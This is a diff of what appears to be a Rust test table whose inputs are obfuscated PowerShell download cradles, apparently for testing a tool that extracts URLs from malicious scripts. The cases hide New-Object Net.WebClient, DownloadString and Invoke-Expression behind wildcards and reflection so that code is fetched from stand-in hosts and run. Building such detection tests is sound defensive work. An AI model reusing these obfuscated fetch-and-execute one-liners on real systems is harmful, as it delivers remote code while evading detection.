@@ -228,9 +228,8 @@ foreach ($e in $d.GetEnumerator()) { Invoke-RestMethod $e.Value }"###,
         &["http://m09.example/i"],
     ),
     (
-        r###"(&(GCM *ke-E*)) -ErrorAction SilentlyContinue
-&(Get-Command *w-O*) Net.WebClient | Set-Variable w
-$w.((($w | Get-Member) | Where-Object { $_.Name -ilike '*nl*g' }).Name).Invoke('http://m10.example/j') | .(GCM *e-Ex*)"###,
+        r###"&(Get-Command *w-O*) Net.WebClient | Set-Variable w
+$w.((($w | Get-Member) | Where-Object { $_.Name -clike '*nl*g' }).Name).Invoke('http://m10.example/j') | .(GCM *e-Ex*)"###,
         &["http://m10.example/j"],
     ),
     (
